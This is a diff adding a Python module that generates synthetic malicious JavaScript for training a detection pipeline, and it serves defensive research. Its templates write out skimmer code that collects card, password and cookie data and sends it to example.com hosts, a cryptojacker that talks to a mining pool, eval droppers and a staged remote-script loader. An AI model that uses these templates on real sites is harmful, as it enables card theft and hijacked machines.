@@ -1,0 +1,377 @@
+"""Synthetic *malicious* JavaScript generators.
+
+Six families modeled on the attack classes in the paper's Sec. II-A and
+its malware sources (HynekPetrak collection, exploit kits, VirusTotal):
+eval-chain droppers, heap-spray exploit scaffolds, web skimmers,
+cryptojackers, forced redirectors, and staged obfuscated loaders.  Per the
+paper's RQ3 finding, malicious code is dominated by *data manipulation* —
+character/integer arithmetic, string assembly, cookie/form exfiltration —
+which these templates deliberately emphasize.
+
+These generators produce structurally faithful but **inert** samples: URLs
+are RFC 2606 reserved example domains, payloads are random bytes, and no
+generated script does anything harmful when read or parsed.  They exist so
+the detection pipeline sees realistic malicious *shape*, exactly as
+DESIGN.md's dataset substitution describes.
+"""
+
+from __future__ import annotations
+
+import numpy as np
+
+from .builders import IdentifierPool, random_b64ish, random_hex_payload, random_int, random_string
+
+#: Family-characteristic variable names.  Real exploit kits and skimmers
+#: are copy-pasted across campaigns, so samples of one family share
+#: recognizable identifiers (``shellcode``, ``sprayArr``, …) — the very
+#: (context, text) features ZOZZLE-style detectors learn, and the ones
+#: renaming obfuscation destroys.
+_FAMILY_NAMES = {
+    "dropper": ["payload", "encoded", "decoded", "xorkey", "chunk", "blob", "stage", "dat"],
+    "heapspray": ["shellcode", "spray", "sprayArr", "sled", "nops", "slide", "block", "heap"],
+    "skimmer": ["cc", "cardData", "stolen", "formData", "exfil", "grabber", "dump", "track"],
+    "cryptojacker": ["miner", "hashrate", "nonce", "job", "pool", "worker", "difficulty", "shares"],
+    "redirector": ["redir", "dest", "landing", "gate", "tds", "campaign", "clickid", "ref"],
+    "loader": ["inject", "stage2", "dropUrl", "frame", "loader", "beacon", "implant", "cradle"],
+}
+
+
+class FamilyNamer:
+    """Hands out family-themed identifiers with light per-sample mutation."""
+
+    def __init__(self, rng: np.random.Generator, family: str):
+        self.rng = rng
+        self.pool = list(_FAMILY_NAMES[family])
+        self._used: set[str] = set()
+
+    def fresh_var(self) -> str:
+        base = str(self.rng.choice(self.pool))
+        name = base
+        while name in self._used:
+            name = base + str(int(self.rng.integers(1, 99)))
+        self._used.add(name)
+        return name
+
+    fresh_function = fresh_var
+
+
+def _wrap(rng: np.random.Generator, ids: IdentifierPool, body: str) -> str:
+    """Random structural shell: top-level, IIFE, or named-function + call."""
+    style = rng.random()
+    if style < 0.4:
+        return body
+    if style < 0.7:
+        return f"(function() {{\n{body}\n}})();"
+    fn = ids.fresh_function()
+    return f"function {fn}() {{\n{body}\n}}\n{fn}();"
+
+
+def _eval_dropper(rng: np.random.Generator, ids: IdentifierPool) -> str:
+    parts = [ids.fresh_var() for _ in range(4)]
+    payload_chunks = [random_b64ish(rng, 12) for _ in range(4)]
+    decoder, key = ids.fresh_var(), random_int(rng, 3, 60)
+    if rng.random() < 0.5:
+        decode_loop = f"""
+var {decoder} = "";
+for (var i = 0; i < {parts[3]}.length; i++) {{
+  var code = {parts[3]}.charCodeAt(i) ^ {key};
+  {decoder} = {decoder} + String.fromCharCode(code);
+}}"""
+    else:
+        decode_loop = f"""
+var pieces = {parts[3]}.split("");
+var {decoder} = "";
+var at = 0;
+while (at < pieces.length) {{
+  {decoder} = {decoder} + String.fromCharCode(pieces[at].charCodeAt(0) - {key % 9 + 1});
+  at = at + 1;
+}}"""
+    sink = "eval" if rng.random() < 0.6 else "window.setTimeout"
+    sink_call = f"eval({decoder});" if sink == "eval" else f"window.setTimeout({decoder}, {random_int(rng, 10, 200)});"
+    body = f"""
+var {parts[0]} = "{payload_chunks[0]}";
+var {parts[1]} = "{payload_chunks[1]}";
+var {parts[2]} = "{payload_chunks[2]}" + "{payload_chunks[3]}";
+var {parts[3]} = {parts[0]} + {parts[1]} + {parts[2]};
+{decode_loop}
+{sink_call}
+"""
+    return _wrap(rng, ids, body)
+
+
+def _heap_spray(rng: np.random.Generator, ids: IdentifierPool) -> str:
+    spray, slide, block, count = (ids.fresh_var() for _ in range(4))
+    nop = "%u9090%u9090"
+    if rng.random() < 0.5:
+        grow = f"""
+while ({slide}.length < {random_int(rng, 30000, 90000)}) {{
+  {slide} = {slide} + {slide};
+}}"""
+    else:
+        grow = f"""
+for (var g = 0; g < {random_int(rng, 12, 20)}; g++) {{
+  {slide} = {slide} + {slide};
+}}"""
+    fill = (
+        f"{spray}[i] = {slide} + {block};"
+        if rng.random() < 0.6
+        else f"{spray}.push({slide}.substring(i) + {block});"
+    )
+    body = f"""
+var {slide} = unescape("{nop}");
+var {block} = unescape("{random_hex_payload(rng, 32)}");
+{grow}
+{slide} = {slide}.substring(0, {random_int(rng, 20000, 60000)});
+var {spray} = new Array();
+for (var i = 0; i < {random_int(rng, 100, 500)}; i++) {{
+  {fill}
+}}
+var {count} = {spray}.length;
+if ({count} > 0) {{
+  document.write("<span>" + {count} + "</span>");
+}}
+"""
+    return _wrap(rng, ids, body)
+
+
+def _web_skimmer(rng: np.random.Generator, ids: IdentifierPool) -> str:
+    grab, send, buffer = ids.fresh_function(), ids.fresh_function(), ids.fresh_var()
+    exfil = f"https://{random_string(rng, 1)}.example.com/c"
+    # Variant axes: field-selection predicate, exfil channel, trigger.
+    predicate_roll = rng.random()
+    if predicate_roll < 0.4:
+        predicate = 'field.type === "password" || field.name.indexOf("card") !== -1'
+    elif predicate_roll < 0.7:
+        predicate = f'field.name.indexOf("{rng.choice(["cvv", "ccnum", "expiry", "pan"])}") !== -1 || field.type === "password"'
+    else:
+        predicate = 'field.value.length > 10 && field.value.replace(/[0-9 ]/g, "") === ""'
+    if rng.random() < 0.6:
+        channel = f"""var img = new Image();
+  img.src = "{exfil}?d=" + escape({buffer}.join("&")) + "&c=" + escape(document.cookie);"""
+    else:
+        channel = f"""var req = new XMLHttpRequest();
+  req.open("POST", "{exfil}", true);
+  req.send({buffer}.join("&") + "|" + document.cookie);"""
+    if rng.random() < 0.6:
+        trigger = f"""document.addEventListener("submit", function(e) {{ {grab}(); {send}(); }}, true);
+setInterval({send}, {random_int(rng, 2000, 9000)});"""
+    else:
+        trigger = f"""document.addEventListener("change", function(e) {{ {grab}(); }}, true);
+document.addEventListener("beforeunload", function(e) {{ {send}(); }}, false);"""
+    body = f"""
+var {buffer} = [];
+function {grab}() {{
+  var inputs = document.getElementsByTagName("input");
+  for (var i = 0; i < inputs.length; i++) {{
+    var field = inputs[i];
+    if ({predicate}) {{
+      {buffer}.push(field.name + "=" + field.value);
+    }}
+  }}
+}}
+function {send}() {{
+  if ({buffer}.length === 0) {{
+    return;
+  }}
+  {channel}
+  {buffer} = [];
+}}
+{trigger}
+"""
+    return _wrap(rng, ids, body)
+
+
+def _cryptojacker(rng: np.random.Generator, ids: IdentifierPool) -> str:
+    worker, nonce, hash_fn, threads = (ids.fresh_var() for _ in range(4))
+    pool = f"wss://{random_string(rng, 1)}.example.net:{random_int(rng, 3000, 9000)}"
+    # Variant axes: hash mixing recipe, loop shape, transport.
+    if rng.random() < 0.5:
+        mix = f"h = (h * {random_int(rng, 17, 63)} + input.charCodeAt(i)) & 0xffffff;\n    h = h ^ (h >> {random_int(rng, 3, 11)});"
+    else:
+        mix = f"h = ((h << {random_int(rng, 3, 7)}) - h + input.charCodeAt(i)) | 0;\n    h = h & 0x7fffffff;"
+    if rng.random() < 0.5:
+        loop = f"""while (true) {{
+    {nonce} = {nonce} + 1;
+    var digest = {hash_fn}(job.blob + {nonce});
+    if (digest < target) {{
+      return {{ nonce: {nonce}, result: digest }};
+    }}
+    if ({nonce} % {random_int(rng, 1000, 9999)} === 0) {{
+      break;
+    }}
+  }}"""
+    else:
+        loop = f"""for (var step = 0; step < {random_int(rng, 2000, 20000)}; step++) {{
+    {nonce} = {nonce} + 1;
+    var digest = {hash_fn}(job.blob + {nonce});
+    if (digest < target) {{
+      return {{ nonce: {nonce}, result: digest }};
+    }}
+  }}"""
+    if rng.random() < 0.6:
+        transport = f"""var socket = new WebSocket("{pool}");
+socket.onmessage = function(msg) {{
+  var job = JSON.parse(msg.data);
+  var found = {worker}(job);
+  if (found) {{
+    socket.send(JSON.stringify({{ id: job.id, nonce: found.nonce }}));
+  }}
+}};"""
+    else:
+        transport = f"""function poll() {{
+  var req = new XMLHttpRequest();
+  req.open("GET", "https://{random_string(rng, 1)}.example.net/job", true);
+  req.onreadystatechange = function() {{
+    if (req.readyState === 4 && req.status === 200) {{
+      var job = JSON.parse(req.responseText);
+      var found = {worker}(job);
+      if (found) {{
+        req.open("POST", "https://{random_string(rng, 1)}.example.net/submit", true);
+        req.send(JSON.stringify(found));
+      }}
+    }}
+  }};
+  req.send(null);
+  setTimeout(poll, {random_int(rng, 500, 5000)});
+}}
+poll();"""
+    body = f"""
+var {threads} = navigator.hardwareConcurrency || {random_int(rng, 2, 8)};
+var {nonce} = 0;
+function {hash_fn}(input) {{
+  var h = {random_int(rng, 1, 65535)};
+  for (var i = 0; i < input.length; i++) {{
+    {mix}
+  }}
+  return h;
+}}
+function {worker}(job) {{
+  var target = job.target | 0;
+  {loop}
+  return null;
+}}
+{transport}
+"""
+    return _wrap(rng, ids, body)
+
+
+def _redirector(rng: np.random.Generator, ids: IdentifierPool) -> str:
+    target_parts = [random_string(rng, 1) for _ in range(3)]
+    assemble, destination = ids.fresh_function(), ids.fresh_var()
+    # Variant axes: URL assembly style, gating condition, redirect sink.
+    if rng.random() < 0.5:
+        build = f"""function {assemble}() {{
+  var p0 = "htt" + "ps:";
+  var p1 = "//" + "{target_parts[0]}";
+  var p2 = ".example" + ".org/";
+  var p3 = "{target_parts[1]}" + "?" + "ref=" + escape(document.referrer);
+  return p0 + p1 + p2 + p3;
+}}"""
+    else:
+        chunks = ", ".join(f'"{c}"' for c in ["https", "://", target_parts[0], ".example.org", "/", target_parts[1]])
+        build = f"""function {assemble}() {{
+  var parts = [{chunks}];
+  var url = "";
+  for (var i = 0; i < parts.length; i++) {{
+    url = url + parts[i];
+  }}
+  return url + "?ref=" + escape(document.referrer);
+}}"""
+    gate_roll = rng.random()
+    if gate_roll < 0.4:
+        gate = f'document.cookie.indexOf("{target_parts[2]}") === -1'
+    elif gate_roll < 0.7:
+        gate = f"document.referrer.length > {random_int(rng, 0, 10)}"
+    else:
+        gate = f'navigator.userAgent.indexOf("{random_string(rng, 1)}") === -1'
+    if rng.random() < 0.6:
+        sink = f"""setTimeout(function() {{
+    window.location = {destination};
+  }}, {random_int(rng, 50, 800)});"""
+    else:
+        sink = f"window.location.replace({destination});"
+    body = f"""
+{build}
+var {destination} = {assemble}();
+if ({gate}) {{
+  document.cookie = "{target_parts[2]}=1; path=/";
+  {sink}
+}}
+"""
+    return _wrap(rng, ids, body)
+
+
+def _staged_loader(rng: np.random.Generator, ids: IdentifierPool) -> str:
+    stage, writer, chunks_var = ids.fresh_var(), ids.fresh_function(), ids.fresh_var()
+    chunk_count = int(rng.integers(4, 9))
+    tag_chunks = []
+    script_text = f"<scr+ipt src=https://{random_string(rng, 1)}.example.com/{random_b64ish(rng, 6)}.js></scr+ipt>"
+    step = max(1, len(script_text) // chunk_count)
+    for i in range(0, len(script_text), step):
+        tag_chunks.append(script_text[i : i + step].replace('"', ""))
+    chunk_literals = ", ".join(f'"{c}"' for c in tag_chunks)
+    # Variant axes: assembly loop direction, delivery sink.
+    if rng.random() < 0.5:
+        assembly = f"""var markup = "";
+  for (var i = 0; i < pieces.length; i++) {{
+    markup = markup + pieces[i];
+  }}"""
+    else:
+        assembly = f"""var markup = "";
+  var j = pieces.length - 1;
+  while (j >= 0) {{
+    markup = pieces[j] + markup;
+    j = j - 1;
+  }}"""
+    sink_roll = rng.random()
+    if sink_roll < 0.5:
+        sink = f"document.write({stage});"
+    elif sink_roll < 0.8:
+        sink = f"""var holder = document.createElement("div");
+holder.innerHTML = {stage};
+document.body.appendChild(holder);"""
+    else:
+        sink = f"""setTimeout(function() {{
+  document.write({stage});
+}}, {random_int(rng, 10, 400)});"""
+    body = f"""
+var {chunks_var} = [{chunk_literals}];
+function {writer}(pieces) {{
+  {assembly}
+  markup = markup.replace("+", "");
+  markup = markup.replace("+", "");
+  return markup;
+}}
+var {stage} = {writer}({chunks_var});
+{sink}
+"""
+    return _wrap(rng, ids, body)
+
+
+#: family name -> generator
+MALICIOUS_FAMILIES = {
+    "dropper": _eval_dropper,
+    "heapspray": _heap_spray,
+    "skimmer": _web_skimmer,
+    "cryptojacker": _cryptojacker,
+    "redirector": _redirector,
+    "loader": _staged_loader,
+}
+
+
+def generate_malicious(rng: np.random.Generator, family: str | None = None) -> str:
+    """One malicious script; optionally force a family.
+
+    Identifiers come from the family's characteristic name pool (see
+    ``_FAMILY_NAMES``) — matching how copy-pasted campaigns share names —
+    with an occasional sample using generic names instead.
+    """
+    names = list(MALICIOUS_FAMILIES)
+    if family is not None:
+        if family not in MALICIOUS_FAMILIES:
+            raise ValueError(f"unknown malicious family {family!r}")
+        chosen = family
+    else:
+        chosen = str(rng.choice(names))
+    ids = FamilyNamer(rng, chosen) if rng.random() < 0.8 else IdentifierPool(rng)
+    return MALICIOUS_FAMILIES[chosen](rng, ids)
